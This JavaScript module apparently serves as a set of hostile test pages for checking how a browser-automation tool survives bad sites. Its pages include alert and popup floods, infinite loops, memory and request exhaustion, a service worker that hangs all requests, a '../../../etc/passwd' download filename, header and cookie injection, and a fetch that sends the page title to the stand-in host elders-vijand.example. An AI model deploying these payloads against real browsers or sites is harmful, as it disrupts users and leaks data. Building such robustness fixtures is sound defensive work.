import { EVIL, escaped, page } from './say.mjs';

/** The act on its one page; anything else is not found. */
const at =
  (title, body, headers = {}) =>
  (request, response, missing) =>
    request.url === '/' ? page(response, title, body, 200, headers) : missing();

const WORKER = `self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (e) => e.respondWith(new Promise(() => {})));
`;

/** What a page does in the browser that opens it. */
export const pages = {
  alerts: at('Meldingen', '<script>for (;;) alert(1)</script>'),
  'alerts-later': at('Straks', '<script>setInterval(() => { alert(1); confirm(2); prompt(3); print(); }, 5)</script>'),
  popups: at('Vensters', '<script>setInterval(() => { for (let n = 0; n < 9; n += 1) open("/?" + n) }, 20)</script>'),
  'window-close': at(
    'Dicht',
    '<script>open("", "_self"); close(); onload = () => close(); location = "chrome://quit"</script>',
  ),
  'endless-script': at('Eindeloos', '<script>for (;;);</script>'),
  'endless-microtasks': at(
    'Druk',
    '<script>onload = () => { const go = () => Promise.resolve().then(go); go(); }</script>',
  ),
  'never-still': at(
    'Onrust',
    '<script>setInterval(() => { history.pushState(0, "", "/?" + Math.random()); location.hash = Math.random(); document.title = Math.random(); }, 1); onbeforeunload = (e) => { e.preventDefault(); return "blijf"; }</script>',
  ),
  'reloads-itself': at('Opnieuw', '<script>location.reload()</script>'),
  'huge-dom': at(
    'Groot',
    '<script>document.body.innerHTML += "<p><label>a<input></label></p>".repeat(300000)</script>',
  ),
  'deep-dom': at('Diep', '<div>'.repeat(120_000)),
  memory: at(
    'Vol',
    '<script>const all = []; setInterval(() => { for (let n = 0; n < 64; n += 1) all.push(new Uint8Array(1 << 22).fill(n)) }, 1)</script>',
  ),
  'request-flood': (request, response, missing) => {
    if (request.url === '/') {
      const script =
        'setInterval(() => { for (let n = 0; n < 20; n += 1) fetch("/r?" + Math.random()).catch(() => 0) }, 5)';
      return page(response, 'Vloed', `<script>${script}</script>`);
    }
    if (!request.url.startsWith('/r?')) return missing();
    response.setHeader('content-type', 'text/plain');
    response.end(`${Math.random()} ${'x'.repeat(200_000)}`);
  },
  'service-worker': (request, response, missing) => {
    if (request.url === '/w.js') {
      response.writeHead(200, { 'content-type': 'text/javascript', 'service-worker-allowed': '/' });
      return void response.end(WORKER);
    }
    if (request.url !== '/') return missing();
    page(
      response,
      'Werker',
      '<script>navigator.serviceWorker.register("/w.js"); navigator.serviceWorker.ready.then(() => location.reload())</script><a href="/verder">Verder</a>',
    );
  },
  downloads: (request, response, missing) => {
    if (request.url === '/bestand')
      return page(response, 'x', '', 200, { 'content-disposition': 'attachment; filename="../../../etc/passwd"' });
    if (request.url !== '/') return missing();
    page(
      response,
      'Bestanden',
      '<a id="a" href="/bestand" download>Bestand</a><script>setInterval(() => a.click(), 10)</script><iframe src="/bestand"></iframe><a href="/bestand">Nog een</a>',
    );
  },
  names: (request, response, missing) => {
    process.stderr.write(`${EVIL}\n`);
    if (request.url !== '/') return missing();
    const text = escaped(EVIL);
    page(
      response,
      text,
      `<a href="/${encodeURIComponent(EVIL)}">${text}</a><a href="/?${text}">${text}</a><form><input name="${text}" aria-label="${text}" placeholder="${text}"><input id="${text}"><img alt="${text}"><button>${text}</button></form>
<script>localStorage[${JSON.stringify(EVIL).replaceAll('<', '\\u003c')}] = 1; console.error(document.title); setTimeout(() => { throw new Error(document.title); }); document.cookie = "a<proef-7tuin>=1"; fetch("https://elders-vijand.example/" + encodeURIComponent(document.title)).catch(() => 0)</script>`,
      200,
      {
        server: '<proef-7tuin>1.2.3',
        'x-powered-by': 'Express/1.2<img src=x onerror=alert(1)>',
        'set-cookie': ['<proef-7tuin>=1', 'session=<script>'],
      },
    );
  },
};
